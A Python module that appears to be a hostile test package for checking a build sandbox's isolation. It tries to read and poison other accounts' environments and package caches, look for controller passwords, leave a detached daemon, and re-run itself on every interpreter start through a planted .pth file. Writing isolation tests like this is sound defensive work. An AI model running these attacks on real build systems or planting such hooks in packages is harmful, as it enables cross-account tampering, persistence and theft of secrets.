"""A package that attacks while it is built. It attacks when its environment's Python first starts, too.

It imports only the standard library and hostile.py beside it. The arena looks for what it leaves: LEFT.
"""

from __future__ import annotations

import contextlib
import json
import os
import runpy
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

Targets = dict[str, Any]
_hostile = runpy.run_path(str(Path(__file__).with_name("hostile.py")))
reads: Callable[[str], bool] = _hostile["reads"]


def writes(path: str) -> bool:
    with Path(path).open("a") as file:
        file.write("poison")
    return True


def reads_another_environment(targets: Targets) -> bool:
    return reads(targets["environment_file"])


def writes_another_environment(targets: Targets) -> bool:
    return writes(targets["environment_file"])


def reads_another_accounts_cache(targets: Targets) -> bool:
    return reads(targets["cache_file"])


def writes_another_accounts_cache(targets: Targets) -> bool:
    return writes(targets["cache_file"])


def writes_data(targets: Targets) -> bool:
    return writes(targets["data_file"])


def writes_its_accounts_cache(_: Targets) -> bool:
    return writes(f"{os.environ['UV_CACHE_DIR']}/poison")


def sees_passwords(targets: Targets) -> bool:
    return targets["password"] in os.environ.values()


def leaves_a_process(targets: Targets) -> bool:
    """Start a daemon. The arena finds it by its arguments after the build."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for number in (0, 1, 2):
                os.dup2(null, number)
            os.closerange(3, 1024)
            script = "import threading; threading.Event().wait()"
            os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", script, targets["daemon"]])
        os._exit(0)
    os.wait()
    return True


LEFT = "leaves_a_process"
_OF_APPS = (
    "reads_admin_key",
    "reads_master_key",
    "reads_database",
    "reads_operators_files",
    "sees_processes",
    "reads_controllers_variables",
    "reads_controllers_memory",
    "signals_the_controller",
    "connects_to_an_abstract_socket",
    "connects_to_a_port",
    "attaches_shared_memory",
    "opens_a_terminal",
    "writes_kernel_settings",
    "opens_a_disk",
    "opens_a_gpu",
    "makes_a_device",
    "mounts",
    "makes_a_user_namespace",
    "has_capabilities",
    "gains_privileges",
)
ATTACKS: dict[str, tuple[Callable[[Targets], bool], str]] = {
    **{name: _hostile["ATTACKS"][name] for name in _OF_APPS},
    **{
        function.__name__: (function, says)
        for function, says in (
            (reads_another_environment, "read another environment"),
            (writes_another_environment, "write to another environment"),
            (reads_another_accounts_cache, "read the packages that another account's builds fetched"),
            (writes_another_accounts_cache, "change what another account's builds take from their cache"),
            (writes_its_accounts_cache, "change the packages in its account's cache"),
            (writes_data, "write to `/data` of its account"),
            (sees_passwords, "see a variable of the controller's that no build needs"),
            (leaves_a_process, "leave a process behind"),
        )
    },
}


def attack(targets: Targets) -> dict[str, bool]:
    """Try all attacks; return the successful ones."""
    results: dict[str, bool] = {}
    for name, (function, _) in ATTACKS.items():
        results[name] = False
        with contextlib.suppress(OSError, ValueError, IndexError):
            results[name] = function(targets)
    return results


def packaged(targets: Targets) -> dict[str, str]:
    """Attack now, and return the files of a package. It attacks again whenever its environment's Python starts."""
    here = Path(__file__).parent
    again = "import hostile_build; hostile_build.start()\n"
    return {
        "found_by_build.json": json.dumps(attack({**targets, "daemon": f"{targets['daemon']}-build"})),
        "targets.json": json.dumps(targets),
        "hostile.py": (here / "hostile.py").read_text(),
        "hostile_build.py": (here / "hostile_build.py").read_text(),
        "again.pth": again,
    }


def start() -> None:
    """Attack once, when the environment's Python starts."""
    here = Path(__file__).parent
    with contextlib.suppress(FileExistsError):
        handle = os.open(here / "found_at_start.json", os.O_WRONLY | os.O_CREAT | os.O_EXCL)
        targets = json.loads((here / "targets.json").read_text())
        # In another process, because a starting interpreter must not fork, and the attacks do.
        script = f"import sys, json; sys.path.insert(0, {str(here)!r}); import hostile_build as h; "
        script += f"print(json.dumps(h.attack(json.loads({json.dumps(json.dumps(targets))}))))"
        done = subprocess.run([sys.executable, "-I", "-S", "-c", script], capture_output=True, check=False)
        os.write(handle, done.stdout)
        os.close(handle)
